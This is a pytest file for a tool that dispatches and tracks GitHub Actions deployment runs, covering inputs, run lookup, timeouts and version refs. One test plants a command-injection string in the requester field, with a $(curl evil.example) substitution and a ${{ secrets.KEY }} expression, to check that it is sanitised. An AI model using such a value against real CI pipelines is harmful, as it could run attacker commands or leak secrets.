"""Deploying by a workflow of GitHub Actions: started once, with its inputs, and followed; and the
versions that it runs on, or gets."""

from __future__ import annotations

from typing import Any, Dict, List

import pytest

from opsroom.deploys import Resolved
from opsroom.errors import Code, Refusal
from support.deploys.github import LINK, dispatched
from support.deploys.sites import EARLIER_MARK, MARK, Site, is_post
from support.vendors.github_deployments import GithubDeployments


def test_a_workflow_is_started_once_and_followed_to_its_end(site: Site) -> None:
    job = site.deploy()
    assert dispatched(site) == [
        {
            "ref": "v1.0.0",
            "inputs": {"environment": "uat", "opsroom": MARK},
            "return_run_details": True,
        }
    ]
    assert job.lines == ["GitHub run 4711 was started", "GitHub run 4711 is running"]
    assert (job.links, job.handles) == ([LINK], {"github": ""})


def test_a_slow_look_at_the_tag_leaves_the_start_its_time(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    deployer = site.deployer()
    client = deployer.service.client
    original = deployer.service.check_unmoved
    left: List[float] = []

    def slowly(ref: str, commit: str) -> None:
        original(ref, commit)
        client.deadline -= 9.0

    def dispatch(ref: str, inputs: Dict[str, str]) -> int:
        left.append(client.remaining)
        raise Refusal(Code.NOT_ACCEPTED, "Not now.")

    monkeypatch.setattr(deployer.service, "check_unmoved", slowly)
    monkeypatch.setattr(deployer.service.workflow, "dispatch", dispatch)
    site.refused(deployer.deploy, site.v1, site.job)
    assert left[0] > 5


def test_the_requester_is_no_more_than_text_to_a_script(
    site: Site, github: GithubDeployments
) -> None:
    github.inputs.append("by")
    site.job.requester = "eve'; $(curl evil.example) `x` ${{ secrets.KEY }} {{ st2kv.x }}"
    site.deploy(inputs={"by": "{requester}"})
    assert not set("'\"$`(){}|&<>\\;!*?#~%") & set(dispatched(site)[0]["inputs"]["by"])


def test_a_server_that_names_no_run_is_asked_which_one_it_is(
    site: Site, github: GithubDeployments
) -> None:
    github.enterprise = True
    github.run(title=f"deploy v0.9.0 [{EARLIER_MARK}]")
    assert site.deploy().lines[-1] == "GitHub run 4712 is running"
    # The first was refused for a field that the server does not know, so that nothing was started.
    assert [one.get("return_run_details") for one in dispatched(site)] == [True, None]
    assert len(github.runs) == 2


def test_a_run_that_is_not_listed_yet_is_waited_for(site: Site, github: GithubDeployments) -> None:
    github.enterprise, github.hidden_for = True, 30
    begun = site.clock()
    lines = site.deploy().lines
    assert site.clock() - begun > 60  # longer than a lost answer is looked for
    assert len(github.runs) == 1
    assert any("does not show in GitHub's list yet" in line for line in lines)


def test_a_run_that_never_shows_does_not_block_its_place_for_good(
    site: Site, github: GithubDeployments
) -> None:
    github.enterprise, github.hidden_for = True, 10_000
    assert site.fails(time_limit="60s").code is Code.TIMED_OUT
    site.clock.now += 900
    github.runs.clear()
    github.hidden_for = 0
    site.job.deployment = "00112233445566ff"
    site.deploy(time_limit="60s")
    assert len(github.runs) == 1


def test_a_run_that_is_not_found_at_once_is_not_taken_for_gone(
    site: Site, github: GithubDeployments
) -> None:
    github.hidden_for = 2
    assert "GitHub run 4711 does not show on GitHub yet" in site.deploy().lines


def test_a_run_that_cannot_be_told_from_another_is_not_guessed(
    site: Site, github: GithubDeployments
) -> None:
    github.enterprise, github.run_name = True, False
    github.states = [("in_progress", None)]
    error = site.fails()
    assert error.code is Code.OUTCOME_UNKNOWN
    assert "may still go on" in error.message
    assert "run-name" in error.hint
    site.job.deployment = "00112233445566ff"
    for _ in range(2):  # and nothing is started before it has ended
        assert site.fails().code is Code.OUTCOME_UNKNOWN
    assert len(github.runs) == 1


def test_a_tag_whose_workflow_lacks_the_input_is_started_without_and_that_is_said(
    site: Site, github: GithubDeployments
) -> None:
    github.inputs_on["v1.0.0"] = ["environment"]
    line = site.deploy().lines[0]
    sent = [list(one["inputs"]) for one in dispatched(site)]
    assert sent == [["environment", "opsroom"], ["environment"]]
    assert "without its id: the workflow at v1.0.0 has no input opsroom" in line
    assert len(github.runs) == 1


def test_a_run_without_the_input_is_found_by_its_time_where_no_id_is_given(
    site: Site, github: GithubDeployments
) -> None:
    github.enterprise, github.inputs_on["v1.0.0"] = True, ["environment"]
    assert site.deploy().lines[-1] == "GitHub run 4711 is running"
    assert len(github.runs) == 1


def test_another_unknown_input_is_refused_by_name(site: Site, github: GithubDeployments) -> None:
    github.inputs_on["v1.0.0"] = []
    error = site.fails()
    assert isinstance(error, Refusal)
    assert "at v1.0.0 has no input environment, opsroom" in error.message
    assert (len(dispatched(site)), site.kept) == (1, "")


def test_a_lost_answer_to_the_start_without_the_input_is_not_repeated(
    site: Site, github: GithubDeployments
) -> None:
    github.inputs_on["v1.0.0"] = ["environment"]
    github.states = [("in_progress", None)]
    site.vendor.after("unanswered", where=lambda one: is_post(one) and b"opsroom-" not in one.body)
    assert site.fails().code is Code.OUTCOME_UNKNOWN
    assert len(github.runs) == 1


@pytest.mark.parametrize(
    ("state", "words", "hint"),
    [
        ({"has_trigger": False}, "cannot be started by hand", ""),
        (
            {"missing_rights": ["actions"]},
            "GitHub does not allow this on workflow deploy.yml",
            "Actions (read and write)",
        ),
    ],
)
def test_what_github_does_not_start_leaves_nothing_behind(
    site: Site, github: GithubDeployments, state: Dict[str, Any], words: str, hint: str
) -> None:
    vars(github).update(state)
    error = site.fails()
    assert words in error.message
    assert hint in error.hint
    assert (github.runs, site.kept) == ({}, "")


# Versions.


def test_a_branch_is_started_by_name(site: Site, github: GithubDeployments) -> None:
    github.branches["feature/x"] = commit = github.commit("x")
    site.deploy(Resolved(commit[:12], "feature/x", commit))
    assert dispatched(site)[0]["ref"] == "feature/x"


def test_a_commit_that_was_approved_earlier_is_refused_too(site: Site) -> None:
    commit = site.v1.commit
    assert site.fails(Resolved(commit[:12], commit[:12], commit)).code is Code.NOT_POSSIBLE
    assert dispatched(site) == []


def test_a_commit_is_an_input_where_the_workflow_runs_on_a_branch(
    site: Site, github: GithubDeployments
) -> None:
    github.inputs += ["version", "commit"]
    inputs = {"version": "{version}", "commit": "{commit}"}
    commit = github.commit("second")
    site.deploy(Resolved(commit[:12], commit[:9], commit), ref="main", inputs=inputs)
    sent = dispatched(site)[0]
    assert sent["ref"] == "main"
    assert sent["inputs"] == {"version": commit[:12], "commit": commit, "opsroom": MARK}


def test_any_version_goes_where_versions_are_not_those_of_git(
    site: Site, github: GithubDeployments
) -> None:
    github.inputs.append("tag")
    made = Resolved("2026.11", "2026.11")
    site.deploy(made, versions="any", ref="main", inputs={"tag": "{version}"})
    assert dispatched(site)[0]["inputs"]["tag"] == "2026.11"
